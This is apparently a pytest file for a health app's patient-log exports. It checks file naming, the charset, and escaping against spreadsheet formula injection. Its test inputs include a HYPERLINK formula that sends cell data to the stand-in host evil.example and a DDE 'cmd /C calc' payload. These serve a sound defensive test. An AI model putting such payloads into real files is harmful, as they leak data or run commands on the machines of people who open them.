"""The export files as they land in a clinician's downloads and open in a spreadsheet: named for
the patient's initials and the day, one charset, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

from tests.helpers.accounts import register
from tests.helpers.log_entries import checkin, hours_ago, iso
from tests.helpers.sharing import share

NOTE = 'fine today;=HYPERLINK("http://evil.example/?x="&A1,"click")'
OTHER = "-2+3+cmd|' /C calc'!A0"


async def _patient(client_factory: Any, name: str) -> Any:
    patient = client_factory()
    patient.me = await register(patient, display_name=name)
    return patient


def _today(clinician: Any) -> str:
    # The clinician's day: whoever downloads the file names its date (America/New_York).
    return datetime.now(ZoneInfo(clinician.me["timezone"])).date().isoformat()


async def test_csv_export_is_named_for_the_patient_and_the_day_and_runs_no_formula(
    client_factory: Any, clinician: Any
) -> None:
    patient = await _patient(client_factory, "Zoë  Ñuñez")
    sent = checkin(
        note=NOTE,
        side_effects=[{"code": "other", "severity": 1, "text": OTHER}],
        recorded_at=iso(hours_ago(2)),
    )
    assert (await patient.put(f"/api/v1/checkins/{uuid.uuid4()}", json=sent)).is_success
    await share(patient, clinician)
    response = await clinician.get(f"/api/v1/patients/{patient.me['id']}/export.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    # Initials beyond ASCII go in filename*; older clients get the name without them.
    plain, name = f"afterglow-{_today(clinician)}.csv", f"afterglow-ZÑ-{_today(clinician)}.csv"
    assert response.headers["content-disposition"] == (
        f"attachment; filename=\"{plain}\"; filename*=UTF-8''{quote(name)}"
    )
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["note"] == 'fine today;\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["side_effects"] == "other:1:" + OTHER  # a formula only at a cell's start
    # Read as a European spreadsheet does, splitting on ";": no cell starts a formula.
    cells = [c for value in row.values() for c in value.replace(",", ";").split(";")]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_fhir_export_is_named_like_the_csv(client_factory: Any, clinician: Any) -> None:
    patient = await _patient(client_factory, "sam o'neil")
    await share(patient, clinician)
    response = await clinician.get(f"/api/v1/patients/{patient.me['id']}/export.fhir")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == (
        f'attachment; filename="afterglow-SO-{_today(clinician)}.fhir.json"'
    )


async def test_a_patient_exporting_their_own_log_gets_the_same_name(patient: Any) -> None:
    response = await patient.get(f"/api/v1/patients/{patient.me['id']}/export.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == (
        f'attachment; filename="afterglow-TP-{_today(patient)}.csv"'
    )
